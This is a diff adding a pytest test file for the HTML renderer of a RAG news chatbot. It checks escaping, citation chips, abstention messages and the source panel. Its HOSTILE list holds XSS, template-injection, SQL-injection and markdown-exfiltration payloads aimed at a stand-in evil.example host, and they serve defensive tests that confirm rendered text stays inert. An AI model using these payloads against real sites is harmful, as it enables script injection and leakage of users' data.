@@ -1,0 +1,388 @@
+"""What the chat shows: chips at their sentences, reasons in words, and text that never acts."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+
+from index import Article, IndexError_
+from rag import render
+from rag.chatbot import Update
+from rag.errors import QuestionError
+from rag.records import Answer, Attribution, Citation, Claim, Conflict, Passage, Sentence, Turn
+
+HOSTILE = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "<svg/onload=window.pwned=1>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<form action=https://evil.example/><input name=q autofocus onfocus=window.pwned=1></form>",
+    "</div></article><style>*{display:none}</style>",
+    "<!-- <a href='#cite-1-1'>",
+    "<![CDATA[<b>]]>",
+    "![leak](https://evil.example/?q=secret)",
+    "![ref][1]\n\n[1]: https://evil.example/pixel.png",
+    "[click](javascript:window.pwned=1)",
+    "[click](data:text/html,<script>window.pwned=1</script>)",
+    "<https://evil.example/auto> and https://evil.example/bare, www.evil.example",
+    "javascript:window.pwned=1",
+    "`code` and ```\nfence\n```",
+    "    indented code",
+    "# heading\n> quote\n* item\n1. item\n---",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    "**bold** __bold__ ~~gone~~ *em*",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${(() => { window.pwned = 1 })()} `${window.pwned=1}`",
+    "$$\\href{javascript:window.pwned=1}{x}$$ \\(x\\)",
+    "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp",
+    '" onmouseover="window.pwned=1" title=\'x\' x="',
+    "'; DROP TABLE articles; -- \\ \\n \\u003cscript\\u003e",
+    "right\u202eto\u202dleft \u2066isolated\u2069",
+    "null\x00 bell\x07 escape\x1b[31m lone \ud800 surrogate",
+    "[99] [0] [-1] [1e3] [[1]] [^1]",
+    "@everyone :smile: <@U1> #cite-1-1",
+    "مرحبا <b>עולם</b> 世界 🛰️",
+]
+
+ELEMENTS = {"div", "p", "span", "a", "ul", "li", "strong", "em", "details", "summary", "br"}
+TEXT = "Headline\n\nThe minister said <b>no</b>.\nHe left [1] early."
+ARTICLE = Article("a/one.txt", TEXT, "Headline", "The Paper", "A. Writer", "2026-01-02")
+
+
+class Page(HTMLParser):
+    """The elements and the visible text of a piece of HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment: {data}")
+
+    def links(self) -> list[str | None]:
+        return [attributes["href"] for tag, attributes in self.elements if tag == "a"]
+
+
+def citation(number: int, quote: str, article: Article = ARTICLE) -> Citation:
+    start = article.text.index(quote)
+    where = (article.title, article.outlet, article.published)
+    return Citation(number, article.key, *where, start, start + len(quote), quote)
+
+
+def passage(rank: int, start: int, end: int, article: Article = ARTICLE) -> Passage:
+    where = (article.title, article.outlet, article.published)
+    return Passage(rank, article.key, start, end, 0.5, article.text[start:end], *where)
+
+
+def answered(*texts: str, citations: tuple[tuple[int, ...], ...] | None = None) -> Answer:
+    """An answer of these sentences; each cites what `citations` gives, number 1 by default."""
+    sentences, position = [], 0
+    for index, text in enumerate(texts):
+        numbers = citations[index] if citations else (1,)
+        sentences.append(Sentence(text, position, position + len(text), numbers, "supported", 0.9))
+        position += len(text) + 1
+    return Answer(
+        "Who?",
+        "Who?",
+        "answered",
+        text=" ".join(texts),
+        sentences=tuple(sentences),
+        citations=(citation(1, "The minister said"), citation(2, "He left [1] early")),
+        passages=(passage(1, 0, 8), passage(2, 10, 38)),
+    )
+
+
+def done(answer: Answer) -> Update:
+    return Update("done", answer)
+
+
+# Escaping
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [
+        ("Dushanbe blames the Taliban", "Dushanbe blames the Taliban"),
+        ("“quoted” – dashed — ’", "“quoted” – dashed — ’"),
+        ("<b>&", "&#60;b&#62;&#38;"),
+        ("\"'`", "&#34;&#39;&#96;"),
+        ("![x](y)", "&#33;&#91;x&#93;&#40;y&#41;"),
+        ("javascript:", "javascript&#58;"),
+        ("{{x}} ${y}", "&#123;&#123;x&#125;&#125; &#36;&#123;y&#125;"),
+        ("*_~#|\\", "&#42;&#95;&#126;&#35;&#124;&#92;"),
+        ("a\n\n\tb", "a b"),
+        ("a\x00\u202eb\ufeff", "ab"),
+        ("\ud800", "&#63;"),
+        ("", ""),
+    ],
+)
+def test_escape(text: str, escaped: str) -> None:
+    assert render.escape(text) == escaped
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_shows_and_does_nothing_else(text: str) -> None:
+    hostile = Article("h.txt", text + " end", title=text, outlet=text, published=text)
+    answer = replace(
+        answered(text),
+        question=text,
+        standalone_question=text + "?",
+        explanation=text,
+        citations=(citation(1, text, hostile), citation(2, "end", hostile)),
+        passages=(passage(1, 0, len(text), hostile),),
+        conflicts=(Conflict(text, (Claim(text, 1), Claim(text, 7))),),
+        removed=(text,),
+    )
+    shown = " ".join(unescape(render.escape(text)).split())
+    for message in (
+        render.message(answer, 1),
+        render.message(replace(answer, status="abstained", reason="no_evidence"), 1),
+        render.question(text),
+    ):
+        page = Page(message)
+        assert shown in " ".join(page.text.split())
+        assert {tag for tag, _ in page.elements} <= ELEMENTS
+        assert all(set(attributes) <= {"class", "href", "title"} for _, attributes in page.elements)
+        assert set(page.links()) <= {"#cite-1-1", "#passage-1-1"}
+        assert "\n" not in message
+        assert message.startswith("<div ")
+        assert not set("`[]!{}$\\*_~|") & set(message)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_escape_leaves_only_letters_and_references(text: str) -> None:
+    escaped = render.escape(text)
+    assert not set("<>\"'`[](){}!*_~|\\$@:/.=") & set(escaped)
+
+
+# An answer
+
+
+def test_chips_stand_at_the_end_of_their_sentence() -> None:
+    message = render.message(answered("It was so.", "And so.", citations=((1,), (1, 2))), 3)
+    first = (
+        '<a class="cite" href="#cite-3-1" title="The Paper · Headline · 2026&#45;01&#45;02 —&#10;'
+        '“The minister said”">1</a>'
+    )
+    assert f"It was so&#46;\u00a0{first}</span> <span" in message
+    assert Page(message).links()[:3] == ["#cite-3-1", "#cite-3-1", "#cite-3-2"]
+    assert Page(message).text.startswith("It was so.\u00a01 And so.\u00a01\u00a02")
+
+
+def test_what_stands_between_sentences_is_not_shown_twice() -> None:
+    answer = answered("It was so.", "And so.")
+    first, second = answer.sentences
+    text = "It was so. [1] And so. [1]"
+    moved = replace(answer, text=text, sentences=(first, replace(second, start=15, end=22)))
+    assert render.message(moved, 1) == render.message(answer, 1)
+
+
+def test_a_number_in_a_quoted_sentence_is_text() -> None:
+    message = render.message(answered("He left [1] early [7]."), 1)
+    assert "He left [1] early [7].\u00a01" in Page(message).text
+    assert Page(message).links()[0] == "#cite-1-1"
+    assert render.message(answered("So.", citations=((9,),)), 1).count('class="cite"') == 0
+
+
+def test_what_answers_is_bold() -> None:
+    answer = answered("Officials blame X loudly.")
+    sentence = replace(answer.sentences[0], answer_span=(10, 17))
+    message = render.message(replace(answer, sentences=(sentence,)), 1)
+    assert "Officials <strong>blame X</strong> loudly&#46;\u00a0<a " in message
+
+
+def test_a_paragraph_stays_a_paragraph() -> None:
+    answer = answered("One.", "Two.")
+    assert "</span> <span" in render.message(answer, 1)
+    assert "</span><br><br><span" in render.message(replace(answer, text="One.\nTwo."), 1)
+
+
+def test_verdicts_are_told_in_words_too() -> None:
+    answer = answered("One.")
+    unsupported = replace(answer.sentences[0], verdict="unsupported", citations=())
+    message = render.message(replace(answer, sentences=(unsupported,)), 1)
+    assert '<span class="unsupported">One&#46; <em class="flag">not supported</em></span>' in message
+
+
+def test_the_speaker_is_named_where_the_sentence_does_not() -> None:
+    answer = answered("It was so.")
+    spoken = replace(answer.sentences[0], attribution=Attribution("the minister", "The Paper"))
+    assert "said by the minister" in render.message(replace(answer, sentences=(spoken,)), 1)
+    named = replace(spoken, text="The minister says so.")
+    assert "said by" not in render.message(replace(answer, sentences=(named,)), 1)
+
+
+def test_passages_are_folded_away_with_their_scores() -> None:
+    page = Page(render.message(answered("It was so."), 1))
+    assert "2 passages retrieved" in page.text
+    assert "The Paper · 2026-01-02 · score 0.50" in page.text
+    assert page.links()[-2:] == ["#passage-1-1", "#passage-1-2"]
+
+
+def test_sources_that_disagree_are_shown_side_by_side() -> None:
+    conflict = Conflict("the number of the dead", (Claim("seven", 1), Claim("25", 2)))
+    page = Page(render.message(replace(answered("It was so."), conflicts=(conflict,)), 1))
+    assert "The sources disagree: the number of the dead" in page.text
+    assert page.links()[1:3] == ["#cite-1-1", "#cite-1-2"]
+
+
+def test_the_question_as_understood_is_shown_when_it_differs() -> None:
+    assert "Understood as" not in render.message(answered("So."), 1)
+    answer = replace(answered("So."), standalone_question="Who left early?")
+    assert "Understood as: Who left early&#63;" in render.message(answer, 1)
+
+
+@pytest.mark.parametrize(
+    ("reason", "heading"),
+    [
+        ("no_evidence", "No answer: nothing found in the articles"),
+        ("insufficient_evidence", "No answer: the articles do not say"),
+        ("unsupported", "No answer: nothing that the articles support"),
+        ("model_unavailable", "No answer: the model cannot be reached"),
+        ("model_unusable", "No answer: the model gave nothing usable"),
+    ],
+)
+def test_each_reason_for_no_answer_has_its_words(reason: str, heading: str) -> None:
+    passages = tuple(passage(rank, 0, 8) for rank in range(1, 6))
+    answer = Answer("Q?", "Q?", "abstained", passages=passages, explanation="They speak of it.")
+    message = render.message(replace(answer, reason=reason), 1)  # type: ignore[arg-type]
+    page = Page(message)
+    assert message.startswith('<div class="answer abstained">')
+    assert heading in page.text
+    assert "They speak of it." in page.text
+    assert "The nearest passages, which do not answer it" in page.text
+    assert "2 more passages" in page.text
+
+
+def test_a_question_that_cannot_be_asked_says_why() -> None:
+    answer = render.failed("x" * 100_000, QuestionError("Too long: 100,000 characters."))
+    message = render.message(answer, 1)
+    assert message.startswith('<div class="answer failed">')
+    assert "Too long: 100,000 characters." in Page(message).text
+    assert len(answer.question) < 2_000
+    assert len(render.question("x" * 100_000)) < 2_000
+    assert "(100,000 characters)" in render.question("x" * 100_000)
+
+
+def test_an_answer_in_the_making_shows_what_it_has() -> None:
+    answer = answered("It was so [1].")
+    searching = render.message(Answer("Q?", "", "answered"), 1, "searching")
+    assert searching == '<div class="answer working"><p class="progress">Searching the articles…</p></div>'
+    writing = Page(render.message(answer, 1, "writing"))
+    assert writing.links() == ["#cite-1-1"]
+    assert "Writing…" in writing.text
+
+
+# A conversation
+
+
+def test_the_messages_of_a_conversation() -> None:
+    messages = render.conversation((done(answered("One.")), Update("writing", answered("Two."))))
+    assert [message["role"] for message in messages] == ["user", "assistant", "user", "assistant"]
+    assert messages[0]["content"] == '<div class="question">Who&#63;</div>'
+    assert "#cite-1-1" in messages[1]["content"]
+    assert "#cite-2-1" in messages[3]["content"]
+    assert "Writing…" in messages[3]["content"]
+
+
+def test_history_is_what_was_asked_and_answered() -> None:
+    failed = done(render.failed("", QuestionError("Empty.")))
+    abstained = done(Answer("Where?", "Where?", "abstained", text="They do not say."))
+    turns = (done(answered("One.")), failed, abstained)
+    assert render.history(turns) == (Turn("Who?", "One."), Turn("Where?", ""))
+
+
+def test_a_stopped_answer_keeps_what_it_has_and_says_so() -> None:
+    finished = done(answered("One."))
+    assert render.stopped(()) == ()
+    assert render.stopped((finished,)) == (finished,)
+    (_, partial) = render.stopped((finished, Update("writing", answered("Two [1]."))))
+    page = Page(render.message(partial.answer, 2, partial.phase))
+    assert "Two" in page.text
+    assert "Stopped before the answer was complete." in page.text
+    (nothing,) = render.stopped((Update("searching", Answer("Q?", "Q?", "answered")),))
+    assert nothing.answer.status == "failed"
+
+
+# Links and the source panel
+
+
+@pytest.mark.parametrize(
+    ("link", "found"),
+    [("#cite-1-1", "The minister said"), ("#cite-1-2", "He left [1] early"), ("#passage-1-1", "Headline")],
+)
+def test_a_link_of_the_conversation_is_found(link: str, found: str) -> None:
+    value = render.panel((done(answered("One.")),), link, lambda key: ARTICLE)
+    assert value is not None
+    assert value["mark"] == found
+    assert value["before"] + value["mark"] + value["after"] == TEXT
+    assert value["link"] == link
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        None, 1, True, [], {}, b"#cite-1-1", "", "#", "cite-1-1",
+        "#cite-1-3", "#cite-2-1", "#cite-0-1", "#cite-1-0", "#cite--1-1",
+        "#cite-1-1 ", " #cite-1-1", "#cite-1-1\n", "#cite-01-1", "#cite-1-1-1", "#passage-1-3",
+        "#cite-9999999-1", "#cite-١-١", "#CITE-1-1",
+        "https://evil.example/#cite-1-1", "javascript:#cite-1-1",
+    ],
+)  # fmt: skip
+def test_any_other_link_opens_nothing(link: object) -> None:
+    def unreachable(key: str) -> Article:
+        raise AssertionError(key)
+
+    assert render.panel((done(answered("One.")),), link, unreachable) is None
+
+
+def test_the_panel_tells_where_the_passage_stands() -> None:
+    value = render.source(citation(1, "The minister said"), ARTICLE)
+    assert value == {
+        "kind": "Cited passage",
+        "title": "Headline",
+        "outlet": "The Paper",
+        "published": "2026-01-02",
+        "author": "A. Writer",
+        "key": "a/one.txt",
+        "before": "Headline\n\n",
+        "mark": "The minister said",
+        "after": " <b>no</b>.\nHe left [1] early.",
+        "note": None,
+    }
+
+
+def test_an_article_that_changed_is_not_marked_elsewhere() -> None:
+    value = render.source(citation(1, "The minister said"), replace(ARTICLE, text="New. " + TEXT))
+    assert (value["before"], value["mark"], value["after"]) == ("", "The minister said", "")
+    assert "has changed" in value["note"]
+
+
+def test_an_article_that_is_gone_still_shows_its_quote() -> None:
+    def gone(key: str) -> Article:
+        raise IndexError_("no such article")
+
+    value = render.panel((done(answered("One.")),), "#cite-1-1", gone)
+    assert value is not None
+    assert value["mark"] == "The minister said"
+
+
+def test_of_a_very_long_article_the_part_around_the_span_is_shown() -> None:
+    around = "x" * (2 * render.CONTEXT_CHARS)
+    long = replace(ARTICLE, text=around + "HERE" + around)
+    value = render.source(citation(1, "HERE", long), long)
+    assert len(value["before"]) == len(value["after"]) == render.CONTEXT_CHARS
+    assert value["mark"] == "HERE"
+    assert "very long" in value["note"]
